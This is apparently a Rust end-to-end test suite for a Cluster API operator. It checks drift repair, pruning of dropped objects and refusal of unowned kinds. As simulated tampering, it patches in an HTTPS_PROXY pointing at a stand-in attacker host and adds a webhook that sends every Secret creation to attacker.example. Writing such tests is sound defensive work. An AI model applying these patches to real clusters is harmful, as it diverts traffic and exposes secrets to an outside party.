//! End-to-end: list entries another field manager adds to what the operator installed (an
//! `HTTPS_PROXY` env var in a manager container, one more webhook in the provider's webhook
//! configuration) are removed within seconds, with a `DriftRepaired` event naming the object
//! and the field path and never the value — while the operator runs, and when they were added
//! while no operator ran.

use crate::support;

use std::time::{Duration, Instant};

use capi_test_support::{OperatorProcess, TestCluster, wait_for};
use serde_json::Value;
use support::*;

const NS: &str = "foreign-entries";
const DEPLOYMENT: &str = "sample-core-controller-manager";
const WEBHOOKS: &str = "sample-core-validating-webhook-configuration";
const PROXY: &str = "http://proxy.attacker.example:3128";
const METADATA: &str = "apiVersion: clusterctl.cluster.x-k8s.io/v1alpha3\nkind: Metadata\nreleaseSeries:\n  - major: 0\n    minor: 2\n    contract: v1beta2\n";

/// The sample core release with a ValidatingWebhookConfiguration of one webhook.
fn release() -> Result<String, Box<dyn std::error::Error>> {
    let components =
        std::fs::read_to_string(samples().join("sample-core/v0.2.0/core-components.yaml"))?;
    Ok(format!(
        "{components}\n---\napiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata:\n  name: {WEBHOOKS}\nwebhooks:\n{}",
        webhook("validate-widget")
    ))
}

fn webhook(name: &str) -> String {
    format!(
        "  - name: {name}.core.sample.capi-operator.example\n    admissionReviewVersions: [\"v1\"]\n    sideEffects: None\n    failurePolicy: Ignore\n    clientConfig:\n      service:\n        name: sample-core-webhook-service\n        namespace: default\n        path: /{name}\n    rules:\n      - apiGroups: [\"core.sample.capi-operator.example\"]\n        apiVersions: [\"v1beta2\"]\n        operations: [\"CREATE\", \"UPDATE\"]\n        resources: [\"samplewidgets\"]\n"
    )
}

/// Adds the env var and the webhook as the field manager `intruder` (strategic merge patches,
/// as `kubectl patch` sends them).
fn intrude(cluster: &TestCluster) -> Result<Instant, Box<dyn std::error::Error>> {
    let env = format!(
        r#"{{"spec":{{"template":{{"spec":{{"containers":[{{"name":"manager","env":[{{"name":"HTTPS_PROXY","value":"{PROXY}"}}]}}]}}}}}}}}"#
    );
    cluster.kubectl_ok(&[
        "patch",
        "deployment",
        "-n",
        NS,
        DEPLOYMENT,
        "--field-manager=intruder",
        "-p",
        &env,
    ])?;
    let hook = r#"{"webhooks":[{"name":"intercept-all.attacker.example","admissionReviewVersions":["v1"],"sideEffects":"None","failurePolicy":"Ignore","clientConfig":{"url":"https://attacker.example/x"},"rules":[{"apiGroups":["*"],"apiVersions":["*"],"operations":["CREATE"],"resources":["secrets"]}]}]}"#;
    cluster.kubectl_ok(&[
        "patch",
        "validatingwebhookconfiguration",
        WEBHOOKS,
        "--field-manager=intruder",
        "-p",
        hook,
    ])?;
    // (Not checked here: a running operator may have removed them already. The event that
    // names both proves they were made.)
    Ok(Instant::now())
}

/// Whether the env var or the extra webhook is in the live objects.
fn present(cluster: &TestCluster) -> bool {
    let env = cluster
        .get_json(&["deployment", "-n", NS, DEPLOYMENT])
        .map(|d| d["spec"]["template"]["spec"]["containers"].to_string())
        .unwrap_or_default();
    let hooks = cluster
        .get_json(&["validatingwebhookconfiguration", WEBHOOKS])
        .map(|w| w["webhooks"].to_string())
        .unwrap_or_default();
    env.contains("HTTPS_PROXY") || hooks.contains("attacker.example")
}

/// The messages of the DriftRepaired warnings in the namespace.
fn repairs(cluster: &TestCluster) -> String {
    cluster
        .kubectl_ok(&[
            "get",
            "events",
            "-n",
            NS,
            "--field-selector",
            "reason=DriftRepaired,type=Warning",
            "-o",
            "jsonpath={range .items[*]}{.message}{\"\\n\"}{end}",
        ])
        .unwrap_or_default()
}

/// Waits until both additions are gone and the event names both paths (never the value).
async fn removed(cluster: &TestCluster, op: &OperatorProcess, since: Instant) -> TestResult {
    let gone = wait_for(Duration::from_secs(20), || async {
        (!present(cluster)).then_some(())
    })
    .await;
    gone.ok_or_else(|| {
        format!(
            "the additions are still there {:?} later\noperator log:\n{}",
            since.elapsed(),
            op.logs()
        )
    })?;
    println!(
        "additions removed {:?} after they were made",
        since.elapsed()
    );
    let named = wait_for(Duration::from_secs(10), || async {
        let events = repairs(cluster);
        (events.contains("env[name=HTTPS_PROXY]")
            && events.contains("webhooks[name=intercept-all.attacker.example]"))
        .then_some(events)
    })
    .await;
    let Some(events) = named else {
        return Err(format!(
            "no DriftRepaired event naming both paths: {:?}",
            repairs(cluster)
        )
        .into());
    };
    assert!(events.contains("intruder"), "the event names who: {events}");
    assert!(!events.contains(PROXY), "the event shows a value: {events}");
    assert!(!op.logs().contains(PROXY), "the log shows a value");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn entries_another_manager_added_are_removed_also_after_a_restart() -> TestResult {
    let _serial = capi_test_support::isolated(module_path!()).await;
    let cluster = capi_test_support::private_cluster()?;
    cluster.install_crds()?;
    cluster.ensure_namespace(NS)?;
    let client = cluster.client().await?;
    release_configmap(
        &client,
        NS,
        "sample-core-v0.2.0",
        &[("provider.cluster.x-k8s.io/name", "sample-core")],
        "v0.2.0",
        METADATA,
        &release()?,
    )
    .await?;
    let mut first = start_operator(cluster, &[])?;
    apply(cluster, &core_provider(NS, "v0.2.0", 2))?;
    wait_installed(
        &client,
        ("CoreProvider", NS, "cluster-api"),
        "v0.2.0",
        &first,
    )
    .await?;

    // While the operator runs.
    let since = intrude(cluster)?;
    removed(cluster, &first, since).await?;
    first.terminate()?;

    // While no operator runs: a restarted one finds them.
    cluster.kubectl_ok(&["delete", "events", "-n", NS, "--all"])?;
    let since = intrude(cluster)?;
    let op = start_operator(cluster, &[])?;
    removed(cluster, &op, since).await?;

    // The declared env var and webhook stayed.
    let d = cluster.get_json(&["deployment", "-n", NS, DEPLOYMENT])?;
    assert!(
        d["spec"]["template"]["spec"]["containers"][0]["env"]
            .to_string()
            .contains("SAMPLE_GREETING"),
        "{d}"
    );
    let w = cluster.get_json(&["validatingwebhookconfiguration", WEBHOOKS])?;
    assert_eq!(w["webhooks"].as_array().map(Vec::len), Some(1), "{w}");
    Ok(())
}

/// metadata.yaml of the sample core releases v0.2 to v0.4 (one contract).
const SERIES: &str = "apiVersion: clusterctl.cluster.x-k8s.io/v1alpha3\nkind: Metadata\nreleaseSeries:\n  - major: 0\n    minor: 2\n    contract: v1beta2\n  - major: 0\n    minor: 3\n    contract: v1beta2\n  - major: 0\n    minor: 4\n    contract: v1beta2\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn owned_kinds_are_pruned_and_a_release_with_an_unowned_kind_is_refused() -> TestResult {
    const NS: &str = "owned-kinds";
    let _serial = capi_test_support::isolated(module_path!()).await;
    // A cluster of its own: only one core provider may exist per cluster.
    let cluster = capi_test_support::second_private_cluster()?;
    cluster.install_crds()?;
    cluster.ensure_namespace(NS)?;
    let client = cluster.client().await?;
    let components =
        std::fs::read_to_string(samples().join("sample-core/v0.2.0/core-components.yaml"))?;
    let pdb = "apiVersion: policy/v1\nkind: PodDisruptionBudget\nmetadata:\n  name: sample-core-pdb\n  namespace: default\nspec:\n  maxUnavailable: 1\n  selector:\n    matchLabels:\n      app: sample-core\n";
    let lease = "apiVersion: coordination.k8s.io/v1\nkind: Lease\nmetadata:\n  name: planted-lease\n  namespace: default\nspec:\n  holderIdentity: nobody\n";
    for (version, extra) in [("v0.2.0", pdb), ("v0.3.0", ""), ("v0.4.0", lease)] {
        let body = if extra.is_empty() {
            components.clone()
        } else {
            format!("{components}\n---\n{extra}")
        };
        release_configmap(
            &client,
            NS,
            &format!("sample-core-{version}"),
            &[("provider.cluster.x-k8s.io/name", "sample-core")],
            version,
            SERIES,
            &body,
        )
        .await?;
    }
    let op = start_operator(cluster, &[])?;
    let key = ("CoreProvider", NS, "cluster-api");
    apply(cluster, &core_provider(NS, "v0.2.0", 2))?;
    wait_installed(&client, key, "v0.2.0", &op).await?;
    let pdbs = || cluster.kubectl_ok(&["get", "pdb", "-n", NS, "-o", "name"]);
    assert!(
        pdbs()?.contains("sample-core-pdb"),
        "the PDB was not installed"
    );

    // v0.3.0 drops the PodDisruptionBudget: it is pruned like any owned object.
    apply(cluster, &core_provider(NS, "v0.3.0", 2))?;
    let upgraded = wait_for(Duration::from_secs(60), || async {
        let p = cluster
            .get_json(&["coreprovider", "-n", NS, "cluster-api"])
            .ok()?;
        (p.pointer("/status/installedVersion")
            .and_then(Value::as_str)
            == Some("v0.3.0"))
        .then_some(())
    })
    .await;
    upgraded.ok_or_else(|| format!("not upgraded to v0.3.0\noperator log:\n{}", op.logs()))?;
    let pruned = wait_for(Duration::from_secs(20), || async {
        pdbs().ok().filter(|o| !o.contains("sample-core-pdb"))
    })
    .await;
    assert!(
        pruned.is_some(),
        "the dropped PDB was not pruned: {:?}",
        pdbs()
    );

    // v0.4.0 holds a Lease, a kind the operator does not own: refused, nothing applied.
    apply(cluster, &core_provider(NS, "v0.4.0", 2))?;
    let p = wait_condition(
        &client,
        key,
        "ProviderInstalled",
        "False",
        Some("UnownedKind"),
        Duration::from_secs(60),
    )
    .await
    .map_err(|e| format!("{e}\noperator log:\n{}", op.logs()))?;
    let message = condition_message(&p, "ProviderInstalled");
    assert!(
        message.contains(&format!("Lease {NS}/planted-lease")),
        "{message}"
    );
    assert_eq!(
        p.pointer("/status/installedVersion")
            .and_then(Value::as_str),
        Some("v0.3.0"),
        "the installed version stays"
    );
    let leases = cluster.kubectl_ok(&["get", "lease", "-n", NS, "-o", "name"])?;
    assert!(!leases.contains("planted-lease"), "{leases}");
    Ok(())
}
